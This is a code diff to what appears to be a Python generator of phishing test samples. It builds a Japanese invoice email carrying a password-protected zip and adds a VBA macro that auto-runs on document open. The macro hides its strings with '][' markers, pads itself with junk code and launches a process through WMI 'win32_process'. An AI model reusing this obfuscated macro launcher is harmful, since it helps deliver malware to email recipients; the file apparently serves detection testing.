@@ -144,3 +144,22 @@ def chain() -> bytes:
     return mail(
         f"お世話になっております。\r\n解凍パスワードは {PASSWORD} です。\r\n", {"請求書.zip": archive}
     )
+
+
+def marked(text: str, marker: str = "][") -> str:
+    """The text with a marker between its parts, as the form of the chain holds it."""
+    return marker.join(text[at : at + 3] for at in range(0, len(text), 3))
+
+
+CALLER: Final = "Sub Document_Open()\r\nJf83\r\nEnd Sub\r\n"
+WORKER: Final = """Function Jf83()
+On Error Resume Next
+GoTo Kx1
+Set Q = Zz.OpenTextFile("C:\\junk.txt")
+Kx1:
+a = Join(Split(UserForm1.TextBox1.Text, "]["), "")
+m = "wi][nm][gm][ts][:w][in][32][_p][ro][ce][ss"
+Set o = GetObject(Join(Split(m, "]["), ""))
+o.Create a, Nope, Nope, Pid
+End Function
+"""
